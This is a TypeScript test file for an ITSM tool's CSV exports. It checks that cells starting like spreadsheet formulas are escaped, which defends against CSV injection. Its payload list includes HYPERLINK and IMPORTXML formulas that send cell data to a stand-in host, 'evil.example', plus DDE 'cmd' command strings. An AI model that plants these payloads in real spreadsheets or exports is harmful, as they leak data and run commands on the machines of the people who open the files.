/**
 * A record's text never becomes a spreadsheet formula: every CSV we write (the `itsm report` CSV and
 * the site's report downloads) neutralises cells that start like a formula, as OWASP recommends.
 */
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/core/csv.ts';
import { buildReport, reportCsv } from '../../src/core/reports/index.ts';
import { reportTables, toCsv } from '../../src/core/site/report-tables.ts';
import { computeSla } from '../../src/core/sla/index.ts';
import { NOW, SLA, WORKSPACE, ZONE } from '../core/reports/fixture.ts';
import { fixtureWorkspace } from '../core/site/helpers.ts';
import { FIXTURE_NOW } from '../site/fixture.ts';

/** What a spreadsheet would run: the classic payloads, one per dangerous first character. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];
/** The payloads a single-line field can hold (validation refuses control characters in titles). */
const ONE_LINE = PAYLOADS.filter((p) => !/[\t\r\n]/.test(p));

/** The cells of a CSV line, unquoted (enough for the lines these tests write). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /"((?:[^"]|"")*)"|([^,]*)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]!);
    if (line[re.lastIndex] === ',') re.lastIndex++;
    else break;
  }
  return out;
}

describe('CSV cells that a spreadsheet would run as a formula', () => {
  it.each(ONE_LINE)('the site download of the change failures neutralises a change title %j', (payload) => {
    const ws = fixtureWorkspace((files) => {
      files['content/changes/CHG-0001.md'] = files['content/changes/CHG-0001.md']!.replace(
        'title: Deploy new frontend bundle',
        `title: ${JSON.stringify(payload)}`,
      );
    });
    const report = buildReport(ws, computeSla(ws, FIXTURE_NOW), { now: FIXTURE_NOW, timeZone: ws.settings.time_zone });
    const csv = toCsv(reportTables(report).find((t) => t.id === 'change-failures')!);
    expect(csv).toContain(`"'${payload.replace(/"/g, '""')}"`);
    expect(cells(csv.split('\r\n')[1]!)[1]).toBe(`'${payload}`);
  });

  it('the site download of the top CIs neutralises a CI name, and leaves plain names alone', () => {
    const ws = fixtureWorkspace((files) => {
      files['content/cis/CI-pg-main.md'] = files['content/cis/CI-pg-main.md']!.replace(
        'name: Primary PostgreSQL cluster',
        'name: "=IMPORTXML(CONCAT(\\"https://evil.example/?\\", A2), \\"//a\\")"',
      );
    });
    const report = buildReport(ws, computeSla(ws, FIXTURE_NOW), { now: FIXTURE_NOW, timeZone: ws.settings.time_zone });
    const lines = toCsv(reportTables(report).find((t) => t.id === 'top-cis')!).split('\r\n');
    const row = lines.map(cells).find((c) => c[0] === 'CI-pg-main')!;
    expect(row[1]).toBe(`'=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")`);
    expect(lines.map(cells).find((c) => c[0] === 'CI-payments-api')![1]).toBe('Payments API');
  });

  it.each(PAYLOADS)('`itsm report --format csv` neutralises a key %j that reached the report', (payload) => {
    const report = buildReport(WORKSPACE, SLA, { now: NOW, timeZone: ZONE });
    report.top_cis = [{ ci: payload, name: 'x', incidents: 1 }];
    const row = reportCsv(report)
      .split('\r\n')
      .find((l) => l.startsWith('top_cis,'))!;
    expect(cells(row)).toEqual(['top_cis', 'ci', `'${payload}`, 'incidents', '1']);
  });

  it('a negative number the report computed stays a number; the text "-3" from a record does not', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell('+49 30 1234')).toBe(`"'+49 30 1234"`);
  });

  it('leaves ordinary text and numbers as they were, and still quotes commas, quotes and line breaks', () => {
    expect(csvCell('Payments API')).toBe('Payments API');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('x, "y"')).toBe('"x, ""y"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
  });
});
